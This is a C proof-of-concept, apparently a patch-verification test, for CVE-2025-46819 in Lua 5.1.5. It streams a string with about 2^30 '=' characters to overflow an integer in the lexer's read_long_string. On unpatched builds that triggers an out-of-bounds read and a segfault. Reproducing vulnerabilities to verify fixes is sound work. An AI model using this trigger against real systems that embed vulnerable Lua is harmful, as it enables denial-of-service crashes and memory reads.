/* respite: CVE-2025-46819 repro. Streams `return [=*[x]=*]` with 2^30 '=' on each side
 * through a lua_Reader (so the source is never in memory at once) and parses it.
 * Unpatched 5.1.5 overflows the int `2*(2 + sep)` in read_long_string and reads far past
 * the lexer buffer (SEGV); patched, it returns "x". Needs about 5 GB of RAM and a few
 * seconds; see README.md. */
#include <stdio.h>
#include <string.h>

#include "lua.h"
#include "lauxlib.h"

#define LEVEL ((size_t)1 << 30)
#define CHUNK ((size_t)1 << 20)

static char eq[CHUNK];

struct src { int part; size_t left; };

static const char *reader(lua_State *L, void *ud, size_t *size) {
  struct src *s = ud;
  (void)L;
  for (;;) {
    switch (s->part) {
      case 0: s->part = 1; s->left = LEVEL; *size = 8; return "return [";
      case 2: s->part = 3; s->left = LEVEL; *size = 3; return "[x]";
      case 4: s->part = 5; *size = 1; return "]";
      case 1: case 3:
        if (s->left > 0) {
          *size = s->left < CHUNK ? s->left : CHUNK;
          s->left -= *size;
          return eq;
        }
        s->part++;
        continue;
      default: *size = 0; return NULL;
    }
  }
}

int main(void) {
  struct src s = {0, 0};
  lua_State *L = luaL_newstate();
  memset(eq, '=', sizeof eq);
  if (lua_load(L, reader, &s, "=huge") != 0) {
    printf("error: %s\n", lua_tostring(L, -1));
    return 1;
  }
  lua_call(L, 0, 1);
  printf("ok: returned a string of length %lu: %.16s\n",
         (unsigned long)lua_objlen(L, -1), lua_tostring(L, -1));
  lua_close(L);
  return 0;
}
